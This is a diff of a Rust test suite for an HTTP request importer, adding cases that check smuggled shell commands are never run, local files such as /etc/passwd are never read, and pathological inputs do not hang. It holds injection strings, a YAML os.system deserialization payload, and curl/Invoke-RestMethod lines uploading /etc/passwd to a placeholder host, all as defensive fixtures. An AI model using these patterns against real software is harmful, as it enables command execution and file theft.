@@ -29,9 +29,18 @@ fn a_command_in_a_command_is_never_run() {
         format!("curl https://a.example/in; touch {trace}"),
         format!("curl https://a.example/in -d \"$(touch {trace})\""),
         format!("curl.exe https://a.example/in -d \"$(New-Item {trace})\" `\n"),
+        format!("Invoke-RestMethod https://a.example/in -Headers @{{ a = (New-Item {trace}) }}"),
+        format!("New-Item {trace}; Invoke-RestMethod https://a.example/in -Body $(New-Item {trace})"),
+        format!("AWS_ACCESS_KEY_ID=AKID\nAWS_SECRET_ACCESS_KEY=$(touch {trace})"),
+        format!(
+            "opencollection: 1.0.0\nitems:\n  - http:\n      url: !!python/object/apply:os.system [\"touch {trace}\"]\n"
+        ),
+        format!(
+            "post {{\n  url: https://a.example/in\n}}\n\nscript:pre-request {{\n  require('fs').writeFileSync('{trace}', '')\n}}\n"
+        ),
         format!("X=$(touch {trace}) curl https://a.example/in"),
     ] {
-        import::read(&command, None).unwrap();
+        import::read(&command, None).ok();
         assert!(!std::path::Path::new(trace).exists(), "{command}");
     }
 }
@@ -45,6 +54,9 @@ fn a_file_that_is_named_is_not_read() {
         "curl --data-urlencode x@/etc/passwd https://a.example/in",
         "curl -K /etc/passwd https://a.example/in",
         "curl -H @/etc/passwd https://a.example/in",
+        "curl --json @/etc/passwd https://a.example/in",
+        "Invoke-RestMethod https://a.example/in -Method Put -InFile /etc/passwd",
+        "POST https://a.example/in\nfile,/etc/passwd;\n",
     ] {
         let draft = draft(command);
         assert!(draft.batch.is_none(), "{command}");
@@ -71,6 +83,16 @@ fn deep_and_endless_texts_are_refused_or_read_and_hang_nothing() {
         format!("curl {}", "{{".repeat(many)),
         format!("curl {}", "<<E ".repeat(many)),
         format!("curl {}", "@'\n".repeat(many)),
+        format!("Invoke-RestMethod https://a.example/in -Headers {}", "@{a=".repeat(many)),
+        format!("Invoke-RestMethod https://a.example/in -Body {}", "(".repeat(many)),
+        format!("Invoke-RestMethod https://a.example/in -Headers @{{{}}}", "a='b';".repeat(many)),
+        format!(
+            "$h=@{{}}\n{}Invoke-RestMethod https://a.example/in -Headers $h",
+            "$h.Add('a','b')\n".repeat(many / 10)
+        ),
+        format!("curl https://a.example/in -d '{}'", "a&".repeat(many)),
+        format!("POST https://a.example/in\n`{}`", "{{".repeat(many)),
+        format!("POST https://a.example/in\n`{}`", "{{a}}".repeat(many)),
         format!("curl {}", "-H a:b ".repeat(many)),
         "curl https://a.example/in\n".repeat(10_000),
         "opencollection: 1\nitems:\n".to_owned() + &"- ".repeat(many),
@@ -143,7 +165,7 @@ fn no_sentence_about_an_import_has_a_secret_in_it() {
 
 proptest! {
     #[test]
-    fn no_text_makes_a_reader_panic(text in "(curl |curl.exe |POST |post \\{\n|info:\nhttp:\n|A=|\\[a\\]\n|)[ -~\n\té`^%$(){}'\"\\\\-]{0,80}") {
+    fn no_text_makes_a_reader_panic(text in "(curl |curl.exe |irm a -Headers @\\{|POST |post \\{\n|info:\nhttp:\n|A=|\\[a\\]\n|)[ -~\n\té`^%$(){}'\"\\\\-]{0,80}") {
         import::read(&text, None).ok();
         for format in FORMATS {
             import::read(&text, Some(format)).ok();
